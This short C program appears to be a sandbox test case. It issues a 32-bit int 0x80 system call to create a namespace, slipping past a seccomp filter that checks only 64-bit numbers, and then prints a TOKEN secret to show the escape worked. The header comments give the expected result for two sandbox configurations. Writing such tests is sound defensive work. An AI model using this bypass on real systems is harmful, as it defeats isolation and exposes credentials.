// title: makes a namespace by int 0x80, past a filter of 64-bit numbers
// harm: obtains
// B: seccomp kills what uses another ABI
// C: seccomp kills what uses another ABI
#include <stdio.h>
#include <stdlib.h>

int main(void) {
  long result;
  __asm__ volatile("int $0x80" : "=a"(result) : "a"(310L), "b"(0x10000000L) : "r8", "r9", "r10", "r11", "memory");
  if (result == 0) printf("OBTAINED %s\n", getenv("TOKEN"));
  return result != 0;
}
